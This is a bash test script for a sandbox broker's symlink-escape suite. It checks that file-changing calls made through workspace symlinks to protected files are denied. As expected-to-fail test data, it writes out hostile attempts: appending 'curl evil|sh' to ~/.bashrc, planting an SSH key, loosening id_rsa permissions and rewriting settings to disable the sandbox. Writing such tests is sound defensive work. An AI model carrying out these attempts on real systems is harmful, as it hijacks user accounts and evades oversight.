#!/usr/bin/env bash
# Escape suite, symlinks: a symlink in the workspace that points at a protected file outside (or at
# a protected file inside) must not let any file-changing call through; loops give ELOOP.
HERE=$(cd "$(dirname "$0")" && pwd)
. "$(dirname "$0")/../lib.sh"
require_core
. "$HERE/lib-escape.sh"
make_fixtures

X="$OUTSIDE/x"
ln -s "$X" "$WS/lx"                    # absolute
ln -s "../outside/x" "$WS/rx"          # relative
ln -s "$HOME/.bashrc" "$WS/lbashrc"
ln -s "$HOME/.ssh" "$WS/lssh"          # a directory
ln -s lx "$WS/chain"                   # symlink to a symlink
ln -s "$OUTSIDE/dir" "$WS/ldir"
ln -s "$WS/.brokered/settings.json" "$WS/lset"
ln -s "$XDG_STATE_HOME/brokered/canary/file" "$WS/lcanary"
ln -s "$OUTSIDE/newfile" "$WS/dangling"  # dangling: O_CREAT would create outside
echo ws >"$WS/wsfile"
D=$X

for l in lx rx chain; do
	attempt "symlink $l: open O_WRONLY|O_TRUNC" 'EACCES' open "$D" -- "$ESC" open $l w,trunc pwned
	attempt "symlink $l: open O_RDWR" 'EACCES' open "$D" -- "$ESC" open $l rw pwned
	attempt "symlink $l: openat2 O_WRONLY|O_APPEND" 'EACCES' open "$D" -- "$ESC" openat2 $l w,append pwned
	attempt "symlink $l: creat()" 'EACCES' open "$D" -- "$ESC" creat $l pwned
	attempt "symlink $l: truncate()" 'EACCES' truncate "$D" -- "$ESC" truncate $l 0
	attempt "symlink $l: chmod 0777" 'EACCES' chmod "$D" -- "$ESC" chmod $l 0777
	attempt "symlink $l: chown self" 'EACCES|EPERM' chown "$D" -- "$ESC" chown $l "$(id -u)" "$(id -g)"
	attempt "symlink $l: utimes" 'EACCES' utimes "$D" -- "$ESC" utimes $l
	attempt "symlink $l: utime" 'EACCES' utimes "$D" -- "$ESC" utime $l
	attempt "symlink $l: utimensat" 'EACCES' utimes "$D" -- "$ESC" utimensat $l
	attempt "symlink $l: setxattr user.x" 'EACCES' setxattr "$D" -- "$ESC" setxattr $l user.x pwned
	attempt "symlink $l: removexattr" 'EACCES|ENODATA' - - -- "$ESC" removexattr $l user.x
done

attempt "symlink: rename a ws file onto lx replaces the link, not the target" 'ok' - - -- \
	sh -c "$ESC rename wsfile lx"
is "$(readlink "$WS/lx" 2>/dev/null || cat "$WS/lx")" ws "rename onto a symlink: the link was replaced"
ln -sf "$X" "$WS/lx"
echo ws >"$WS/wsfile"

attempt "symlink: rename the outside target through ldir/" 'EACCES' rename "$OUTSIDE/dir/y" -- \
	"$ESC" rename ldir/y wsgot
attempt "symlink: rename a ws file onto ldir/y" 'EACCES' rename "$OUTSIDE/dir/y" -- \
	"$ESC" rename wsfile ldir/y
attempt "symlink: hard link from lx without follow links the symlink only" 'ok' - - -- \
	"$ESC" link lx wslink
[ -L "$WS/wslink" ]
ok $? "link(lx) without AT_SYMLINK_FOLLOW: a second symlink, as natively"
rm -f "$WS/wslink"
attempt "symlink: linkat AT_SYMLINK_FOLLOW from lx" 'EACCES' link "$D" -- "$ESC" linkf lx wslink
attempt "symlink: linkat AT_SYMLINK_FOLLOW from rx" 'EACCES' link "$D" -- "$ESC" linkf rx wslink2
attempt "symlink: linkat AT_SYMLINK_FOLLOW from rx, then write the new name" 'ENOENT' - - -- \
	sh -c "$ESC linkf rx wslink2; $ESC open wslink2 w,trunc pwned"
attempt "symlink dir: create in ldir/" 'EACCES' open "$OUTSIDE/dir/new" -- "$ESC" open ldir/new w,creat pwned
attempt "symlink dir: mkdir in ldir/" 'EACCES' mkdir "$OUTSIDE/dir/newdir" -- "$ESC" mkdir ldir/newdir
attempt "symlink dir: unlink ldir/y" 'EACCES' unlink "$OUTSIDE/dir/y" -- "$ESC" unlink ldir/y
attempt "symlink dir: symlink in ldir/" 'EACCES' symlink "$OUTSIDE/dir/sl" -- "$ESC" symlink /etc/passwd ldir/sl
attempt "dangling symlink: O_CREAT through it" 'EACCES' open "$OUTSIDE/newfile" -- "$ESC" open dangling w,creat pwned
[ ! -e "$OUTSIDE/newfile" ]
ok $? "dangling symlink: nothing created outside"
attempt "dangling symlink: mkdir through it (not followed)" 'EEXIST' - - -- "$ESC" mkdir dangling

attempt "symlink to ~/.bashrc: append" 'EACCES' open "$HOME/.bashrc" -- "$ESC" open lbashrc w,append 'curl evil|sh'
attempt "symlink to ~/.ssh: add authorized key" 'EACCES' open "$HOME/.ssh/authorized_keys" -- \
	"$ESC" open lssh/authorized_keys w,append 'ssh-rsa EVIL'
attempt "symlink to ~/.ssh: new file" 'EACCES' open "$HOME/.ssh/new" -- "$ESC" open lssh/new w,creat pwned
attempt "symlink to ~/.ssh/id_rsa: chmod 0644" 'EACCES' chmod "$HOME/.ssh/id_rsa" -- "$ESC" chmod lssh/id_rsa 0644
attempt "symlink to .brokered/settings.json: write" 'EACCES' open "$WS/.brokered/settings.json" -- \
	"$ESC" open lset w,trunc '{"sandbox":{"enabled":false}}'
attempt "symlink to the state dir: write the canary" 'EACCES' open "$XDG_STATE_HOME/brokered/canary/file" -- \
	"$ESC" open lcanary w,trunc pwned
attempt "symlink with trailing slash to a file" 'ENOTDIR|EACCES' - - -- "$ESC" open lx/ w,trunc pwned

# shell and interpreter one-liners, each on a fresh symlink (sed -i and cp replace it natively)
fresh() { rm -f "$WS/lx"; ln -s "$X" "$WS/lx"; }
fresh
attempt "sh: echo > symlink" - open "$D" -- sh -c 'echo pwned > lx'
fresh
attempt "sh: echo >> ../ symlink" - open "$D" -- sh -c 'echo pwned >> rx'
fresh
attempt "sed -i through the symlink" - - - -- sed -i 's/secret/pwned/' lx
fresh
attempt "sed -i --follow-symlinks" - - - -- sed -i --follow-symlinks 's/secret/pwned/' lx
fresh
attempt "cp onto the symlink" - open "$D" -- cp wsfile lx
fresh
attempt "perl open > symlink" - open "$D" -- perl -e 'open(my $f, ">", "lx") or exit 1; print $f "pwned"'
fresh
attempt "perl chmod/utime on the symlink" - chmod "$D" -- perl -e 'chmod 0777, "lx"; utime 1, 1, "lx"'
fresh
attempt "touch through the symlink" - utimes "$D" -- touch lx
attempt "chmod -R through a dir symlink" - chmod "$OUTSIDE/dir/y" -- chmod -R 777 ldir/
if command -v python3 >/dev/null 2>&1 && python3 -c 1 2>/dev/null; then
	fresh
	attempt "python: os.truncate on the symlink" - truncate "$D" -- python3 -c 'import os; os.truncate("lx", 0)'
else
	skip "python: os.truncate on the symlink" "python3 not available"
fi

# loops
ln -s loop1 "$WS/loop2"
ln -s loop2 "$WS/loop1"
ln -s self "$WS/self"
attempt "symlink loop: open for write" 'ELOOP' - - -- "$ESC" open loop1 w,creat pwned
attempt "symlink loop: self" 'ELOOP' - - -- "$ESC" open self w,creat pwned
attempt "symlink loop: chmod" 'ELOOP' - - -- "$ESC" chmod loop1 0777
attempt "symlink loop: truncate" 'ELOOP' - - -- "$ESC" truncate self 0
attempt "symlink loop in a directory part" 'ELOOP' - - -- "$ESC" open loop1/x w,creat pwned
# a 41-hop chain: more than the kernel's 40
prev=lx
for i in $(seq 1 41); do ln -s "$prev" "$WS/hop$i"; prev=hop$i; done
attempt "41 chained symlinks ending outside" 'ELOOP|EACCES' - - -- "$ESC" open hop41 w,trunc pwned
broker_alive "broker still works after the symlink attempts"

done_testing
